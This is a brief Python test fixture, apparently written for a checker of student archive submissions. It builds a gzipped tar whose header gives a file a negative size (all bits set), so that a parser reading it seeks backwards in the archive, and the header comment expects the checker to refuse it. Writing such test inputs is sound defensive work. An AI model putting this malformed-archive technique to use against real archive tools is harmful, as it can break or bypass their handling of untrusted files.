# verdict: refused
# says: a size below zero
"""A size below zero, written with all bits set: whoever adds it goes back in the archive."""
import gzip
import tarfile


def hand_in(people, student, right, secret):
    header = bytearray(tarfile.TarInfo("scale.py").tobuf(tarfile.GNU_FORMAT))
    header[124:136] = b"\xff" * 10 + b"\xfe\x00"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    (people / f"{student}.tar.gz").write_bytes(gzip.compress(bytes(header) + right + bytes(10_240)))
